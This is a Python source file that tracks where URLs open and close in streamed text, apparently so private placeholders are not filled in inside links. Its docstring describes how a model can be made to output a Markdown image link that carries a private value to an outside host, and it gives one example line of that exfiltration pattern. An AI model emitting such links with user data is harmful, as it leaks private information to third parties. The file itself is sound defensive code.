"""Where a text is inside an address of the web: nothing is filled in there.

A model can be made to write `![](https://somewhere/?q=[EMAIL_1_kdtqzbrm])`. Whatever shows that text fetches the address, and would
take the value with it. So an address begins where a browser could begin one, and ends only where Markdown and HTML both end it:

    https: ftp: ws: // \\ /\\ www.     begins, anywhere in a word
    &#58; &colon; &sol; …             begins too: Markdown and HTML read them as the marks above
    ASCII white space                 ends it, outside of <…>
    >                                 ends it inside of <…>, where spaces may stand; not in a quoted attribute
    an empty line                     ends everything
"""

from __future__ import annotations

import re
from collections.abc import Iterator

_TURNS = re.compile(r"[\x00-\x20<>=\"':/\\.#;]")  # at all other characters nothing changes
_REFERENCE = r"&(?:#|(?:colon|sol|bsol|period|tab|newline);)"
_OPENERS = re.compile(rf"(?:[/\\]{{2}}|www\.|(?:https?|ftp|wss?)\\?:|{_REFERENCE})\Z", re.IGNORECASE)
_LONGEST = 9  # characters of the longest opener, "&newline;"
_MAY_OPEN = re.compile(rf"[/\\]{{2}}|www\.|(?:http|ftp|ws)s?\\?:|{_REFERENCE}", re.IGNORECASE)


class Links:
    """Feed it a text, in whatever pieces; `inside` says whether what comes next would be part of an address."""

    __slots__ = ("_angle", "_angle_link", "_blank", "_equals", "_quote", "_tail", "_word_link", "opened_at", "read")

    def __init__(self) -> None:
        self.read = 0  # characters
        self.opened_at = 0  # where the address began in which we are
        self._word_link = False  # one began in this word, outside of <…>
        self._angle = False  # after a "<" that is still open
        self._angle_link = False  # an address began in it
        self._quote = ""  # the mark that ends the attribute's value
        self._equals = False  # after "=", which a quoted value may follow
        self._blank = False  # nothing but white space since the last end of a line
        self._tail = ""

    @property
    def inside(self) -> bool:
        return self._word_link or self._angle_link

    def feed(self, text: str) -> None:
        """Take the next piece."""
        at = 0
        for turn in _TURNS.finditer(text):
            here = turn.start()
            self._pass(text[at:here])
            self._turn(text[here])
            at = here + 1
        self._pass(text[at:])

    def _pass(self, text: str) -> None:
        if text:
            self._equals = self._blank = False
            self._keep(text)

    def _keep(self, text: str) -> None:
        self._tail = (self._tail + text[-_LONGEST:])[-_LONGEST:]
        self.read += len(text)

    def _turn(self, mark: str) -> None:
        self._keep(mark)
        if mark <= " ":
            self._space(mark)
            return
        self._blank = False
        equals, self._equals = self._equals, mark == "="
        if mark == "<":
            self._angle = True
        elif mark == ">" and self._angle and not self._quote:
            self._angle = self._angle_link = False
        elif mark in "\"'" and self._angle:
            if mark == self._quote:
                self._quote = ""
            elif equals and not self._quote:
                self._quote = mark
        elif mark in ":/\\.#;" and (opener := _OPENERS.search(self._tail)):
            if not self.inside:
                self.opened_at = self.read - len(opener[0])
            if self._angle:
                self._angle_link = True
            else:
                self._word_link = True

    def _space(self, mark: str) -> None:
        self._tail = self._tail[:-1] if self._angle and mark in "\t\r\n" else ""  # a browser leaves those out of an address
        self._word_link = False
        if mark == "\n":
            if self._blank:
                self._angle = self._angle_link = False
                self._quote = ""
            self._blank = True


def links(text: str) -> Iterator[tuple[int, int]]:
    """Where the addresses of a text begin and end, in order; what ends one stands at its end. Linear, and quick where there are none."""
    if not _MAY_OPEN.search(text):
        return
    state, at, start, inside = Links(), 0, 0, False
    for turn in _TURNS.finditer(text):
        state.feed(text[at : turn.end()])
        at = turn.end()
        if inside and not state.inside:
            yield start, turn.start()
        elif state.inside and not inside:
            start = state.opened_at
        inside = state.inside
    if inside:
        yield start, len(text)
